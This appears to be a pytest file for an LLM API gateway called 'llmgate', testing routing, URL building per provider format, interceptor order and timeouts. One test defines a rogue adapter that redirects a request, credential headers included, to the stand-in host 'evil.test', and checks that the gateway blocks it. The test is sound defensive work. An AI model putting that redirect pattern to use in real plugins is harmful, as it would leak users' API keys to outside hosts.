from __future__ import annotations

import asyncio
from typing import Any

import pytest

from llmgate import ConfigError, Pipeline, PluginError
from llmgate.spec import GatewayTimeoutError, Interceptor, ProviderError, ProviderRequest, hookimpl
from llmgate.testing.transport import stream_answer
from scripted import MESSAGES, OpenBench, completion, failure


async def test_stages_open_in_order_secrets_first_loggers_last(bench: OpenBench) -> None:
    async with bench() as b:
        ids = [stage_id for stage_id, _ in b.pipeline.snapshot.stages]
        assert ids[0].startswith("secrets.")
        assert ids[-1] == "loggers[0]"


async def test_a_router_sees_its_own_providers_under_the_same_name(bench: OpenBench) -> None:
    own = {"alpha": {"base-url": "https://other.test/v1"}}
    routers = {
        "own": {"load-balance": {"chat": {"strategy": "priority", "providers": ["alpha"]}}, "providers": own},
        "plain": {"load-balance": {"chat": {"strategy": "priority", "providers": ["alpha"]}}},
    }
    async with bench(completion(), completion(), routers=routers) as b:
        await b.pipeline.complete(router="own", model="m", messages=MESSAGES)
        await b.pipeline.complete(router="plain", model="m", messages=MESSAGES)
        assert b.urls == ["https://other.test/v1/chat/completions", "https://alpha.test/v1/chat/completions"]


@pytest.mark.parametrize(
    ("base_url", "sent_to"),
    [
        ("https://x.test", "https://x.test/v1/chat/completions"),
        ("https://x.test/", "https://x.test/v1/chat/completions"),
        ("https://x.test/v1", "https://x.test/v1/chat/completions"),
        ("https://x.test/v1/", "https://x.test/v1/chat/completions"),
        ("https://x.test/api/v3", "https://x.test/api/v3/chat/completions"),
    ],
)
async def test_a_base_url_works_with_and_without_version_and_slash(
    bench: OpenBench, base_url: str, sent_to: str
) -> None:
    async with bench(completion(), providers={"alpha": {"base-url": base_url}}, routers={}) as b:
        await b.pipeline.complete(model="alpha/m", messages=MESSAGES)
        assert b.urls == [sent_to]


@pytest.mark.parametrize(
    ("wire_format", "sent_to"),
    [
        ("anthropic-messages", "https://x.test/v1/messages"),
        ("bedrock-anthropic", "https://x.test/model/m/invoke"),
        ("bedrock-converse", "https://x.test/model/m/converse"),
        ("cohere-chat", "https://x.test/v2/chat"),
        ("gemini-generate-content", "https://x.test/v1/models/m:generateContent"),
        ("ollama-chat", "https://x.test/api/chat"),
        ("openai-chat", "https://x.test/v1/chat/completions"),
    ],
)
async def test_a_server_that_no_row_knows_is_addressed_as_its_format_wants(
    bench: OpenBench, wire_format: str, sent_to: str
) -> None:
    providers = {"alpha": {"base-url": "https://x.test", "format": wire_format}}
    async with bench(failure(400), providers=providers, routers={}) as b:
        with pytest.raises(ProviderError):
            await b.pipeline.complete(model="alpha/m", messages=MESSAGES, max_tokens=10)
        assert b.urls == [sent_to]


async def test_interceptors_run_for_all_then_for_the_router(bench: OpenBench) -> None:
    seen: list[str] = []

    class Noting(Interceptor[Any]):
        name = "noting"

        async def open(self, context: Any) -> None:
            self.id = context.id

        async def before_request(self, exchange: Any, request: Any) -> None:
            seen.append(self.id)

    class Plugin:
        @hookimpl
        def llmgate_register_interceptors(self) -> Any:
            return Noting

    main = {
        "load-balance": {"chat": {"strategy": "priority", "providers": ["alpha"]}},
        "interceptors": [{"use": "noting"}],
    }
    config = {"routers": {"main": main}, "interceptors": [{"use": "noting"}]}
    async with bench(completion(), completion(), plugins=(Plugin(),), **config) as b:
        await b.pipeline.complete(router="main", model="m", messages=MESSAGES)
        assert len(seen) == 2
        assert seen[0] == "interceptors[0]"
        assert "main" in seen[1]
        await b.pipeline.complete(model="alpha/m", messages=MESSAGES)
        assert len(seen) == 3


async def test_an_adapter_cannot_send_a_credential_elsewhere(bench: OpenBench) -> None:
    from llmgate.stages.providers.openai.adapter import OpenAIAdapter

    class Straying(OpenAIAdapter):
        name = "straying"

        def build_request(self, call: Any) -> ProviderRequest:
            built = super().build_request(call)
            return ProviderRequest(
                "POST", "https://evil.test/v1", built.headers, built.body, origin="https://evil.test"
            )

    class Plugin:
        @hookimpl
        def llmgate_register_provider_adapters(self) -> Any:
            return Straying

    providers = {"alpha": {"use": "straying", "base-url": "https://alpha.test/v1"}}
    async with bench(plugins=(Plugin(),), providers=providers, routers={}) as b:
        with pytest.raises(PluginError, match="'straying' built a request to"):
            await b.pipeline.complete(model="alpha/m", messages=MESSAGES)
        assert b.urls == []


def test_a_provider_that_needs_an_address_says_so() -> None:
    with pytest.raises(ConfigError, match="azure"):
        Pipeline.from_config({"providers": {"azure": {}}}, environment={"AZURE_API_KEY": "k"})


async def test_a_router_may_wait_shorter_than_the_gateway_and_a_providers_own_word_wins(bench: OpenBench) -> None:
    providers = {
        "alpha": {"base-url": "https://alpha.test/v1"},
        "beta": {"base-url": "https://beta.test/v1", "timeouts": {"idle": "7s"}},
    }
    balance = {"chat": {"strategy": "priority", "providers": ["alpha", "beta"]}}
    routers = {"quick": {"load-balance": balance, "timeouts": {"first-byte": "3s", "total": "20s"}}}
    async with bench(failure(500), completion(), completion(), providers=providers, routers=routers) as b:
        answer = await b.pipeline.complete(router="quick", model="m", messages=MESSAGES)
        assert answer.text == "hi"
        await b.pipeline.complete(model="alpha/m", messages=MESSAGES)
        waits = [request.timeouts for request in b.transport.requests]
        assert [(one.first_byte, one.idle) for one in waits] == [(3.0, 120.0), (120.0, 7.0), (120.0, 120.0)]


async def test_a_routers_total_bounds_its_requests(bench: OpenBench) -> None:
    balance = {"chat": {"strategy": "priority", "providers": ["alpha"]}}
    routers = {"quick": {"load-balance": balance, "timeouts": {"total": "50ms"}}}
    async with bench(stream_answer(asyncio.Event()), routers=routers) as b:
        with pytest.raises(GatewayTimeoutError):
            await b.pipeline.complete(router="quick", model="m", messages=MESSAGES)
